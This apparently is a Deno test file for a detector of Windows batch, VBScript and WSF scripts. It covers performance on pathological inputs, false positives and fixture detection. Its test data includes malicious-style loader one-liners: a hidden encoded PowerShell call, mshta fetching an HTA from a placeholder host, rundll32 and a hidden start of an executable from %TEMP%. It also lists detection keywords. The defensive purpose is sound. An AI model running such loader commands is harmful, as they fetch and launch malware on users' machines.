/**
 * The Windows-script sniffer (src/analyse/_windows_script.ts) through sniffBytes(): it
 * runs in linear time on hostile shapes, keeps catching every script fixture, and
 * leaves ordinary documentation alone.
 */
import assert from "node:assert/strict";
import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { sniffBytes } from "../../src/analyse/mod.ts";
import { BIN_FIXTURES } from "../_helpers/eml_builder.ts";
import { tellsOf } from "../../src/analyse/_windows_script.ts";
import { BENIGN_ROOTS, benignTexts } from "../_helpers/benign_texts.ts";

const encode = (text: string): Uint8Array => new TextEncoder().encode(text);
const scriptKind = (text: string): string | undefined => {
  const loader = sniffBytes(encode(text)).loader;
  return loader?.type === "script-win" ? loader.detail : undefined;
};

// Pathological shapes: each was quadratic with the former regular expressions
// (`^\s*` under the m flag, `[\s\S]*` between tags). The tests assert the finding; the
// time they take is measured in bench/.

Deno.test("sniffBytes() finds @echo off after 60,000 empty lines", () => {
  assert.equal(scriptKind(`${"\n".repeat(60_000)}@echo off\r\ndel x\r\n`), "batch");
});

Deno.test("sniffBytes() finds a label and its goto after 30,000 blank lines", () => {
  assert.equal(scriptKind(`${" \t\n".repeat(20_000)}:again\ngoto again\n`), "batch");
});

Deno.test("sniffBytes() finds a WSF job after 60,000 unclosed '<'", () => {
  const wsf = `${
    "<".repeat(60_000)
  }>\n<job id="x">\n<script language="JScript">\nx\n</script></job>`;
  assert.equal(scriptKind(wsf), "wsf");
});

Deno.test("sniffBytes() reads 60,000 '<job' without a script as no script", () => {
  assert.equal(scriptKind("<job ".repeat(12_000)), undefined);
});

Deno.test("sniffBytes() finds VBScript after 60,000 blanks that start a line", () => {
  const vbs = `${" ".repeat(60_000)}\nDim sh\nSet sh = CreateObject("WScript.Shell")\n`;
  assert.equal(scriptKind(vbs), "vbscript");
});

// False positives of the former sniffer: prose that merely starts lines with common words.

Deno.test('sniffBytes() does not call prose with a line starting "start" and a "%0" a script', () => {
  assert.equal(scriptKind("start the engine\nthe gauge reads 100%0 now\n"), undefined);
});

Deno.test('sniffBytes() does not call lines starting "Set", "Call" and "Dim" a script', () => {
  const prose = "Set the table.\nCall me at ten.\nDim the lights when the film starts.\n";
  assert.equal(scriptKind(prose), undefined);
});

Deno.test("sniffBytes() does not call C's goto with a label a batch file", () => {
  assert.equal(scriptKind("  if (x) goto out;\nout:\n  return 0;\n"), undefined);
});

Deno.test("sniffBytes() catches every Windows script fixture", () => {
  const scripts = readdirSync(BIN_FIXTURES).filter((f) => f.startsWith("script_win_"));
  assert.ok(scripts.length >= 6, scripts.join(", "));
  const missed = scripts.filter((f) =>
    sniffBytes(readFileSync(join(BIN_FIXTURES, f))).loader?.type !== "script-win"
  );
  assert.deepEqual(missed, []);
});

const BENIGN_SAMPLES = 12_000;

Deno.test({
  name: "sniffBytes() calls at most 1 in 10,000 plain-text files of this machine a Windows script",
  ignore: BENIGN_ROOTS.every((root) => {
    try {
      return readdirSync(root).length === 0;
    } catch {
      return true;
    }
  }),
  fn: () => {
    const texts = benignTexts(BENIGN_SAMPLES);
    const flagged = texts.filter((t) => t.script);
    const allowed = Math.floor(texts.length / 10_000);
    assert.ok(
      flagged.length <= allowed,
      `${flagged.length} of ${texts.length} flagged (at most ${allowed}):\n` +
        flagged.map((t) => t.path).join("\n"),
    );
  },
});

for (
  const shim of [
    "powershell -w hidden -enc SQBFAFgA\r\n",
    '@start "" mshta http://example.invalid/a.hta\r\n',
    "rundll32.exe %TEMP%\\x.dll,Start\r\n",
    "cmd /c start /b %TEMP%\\invoice.exe\r\n",
  ]
) {
  Deno.test(`sniffBytes() calls the one-line shim ${JSON.stringify(shim.trim())} a batch file`, () => {
    assert.equal(scriptKind(shim), "batch");
  });
}

Deno.test("sniffWindowsScript(): a text without a tell's needles never shows that tell", () => {
  const texts: string[] = [
    ...readdirSync(BIN_FIXTURES).map((f) => readFileSync(join(BIN_FIXTURES, f), "latin1")),
    ...benignTexts(2_000).map((t) => readFileSync(t.path, "latin1").slice(0, 64 * 1024)),
  ];
  // Pieces of every tell, in both cases, with the characters whose case mapping leaves
  // ASCII (the Kelvin sign, the long s, the dotted capital I) and the blanks between.
  const pieces = [
    "@echo off",
    "ECHO OFF",
    "cmd /c x",
    "PowerShell -enc",
    "pwsh -c",
    "mshta x",
    "%~dp0",
    "\ngoto end\n",
    "\n:label\n",
    "start /b",
    'call "x.bat"',
    "set x=1",
    "SET /a y=",
    "\nDim sh\n",
    "Set o = CreateObject",
    "End Sub",
    'CreateObject("WScript.Shell")',
    "On Error Resume Next",
    "new ActiveXObject(",
    "WScript.CreateObject(",
    "WScript.Echo",
    "IEX",
    "Invoke-WebRequest",
    "New-Object Net.WebClient",
    "[System.Convert]",
    "$env:TEMP",
    "Set-ExecutionPolicy",
    "<hta:application>",
    '<job id="x">',
    '<script language="JScript">',
    "\u212a",
    "\u017f",
    "\u0130",
    "x",
    " ",
    "\t",
    "\n",
    "\r\n",
  ];
  let seed = 13;
  const next = (n: number): number => {
    seed = (seed + 0x6d2b79f5) | 0; // mulberry32
    let t = Math.imul(seed ^ (seed >>> 15), 1 | seed);
    t ^= t + Math.imul(t ^ (t >>> 7), 61 | t);
    return ((t ^ (t >>> 14)) >>> 0) % n;
  };
  for (let i = 0; i < 3_000; i++) {
    let text = "";
    for (let j = next(12); j >= 0; j--) text += pieces[next(pieces.length)];
    texts.push(text, text.toUpperCase(), text.toLowerCase());
  }
  const seen = new Set<number>();
  for (const text of texts) {
    tellsOf(text).forEach((tell, i) => {
      if (tell.seen) seen.add(i);
      assert.ok(!tell.seen || tell.needled, `tell ${i} without its needles: ${text.slice(0, 200)}`);
    });
  }
  // Every tell was seen at least once, so every needle list was put to the test.
  assert.deepEqual([...tellsOf("").keys()].filter((i) => !seen.has(i)), []);
});
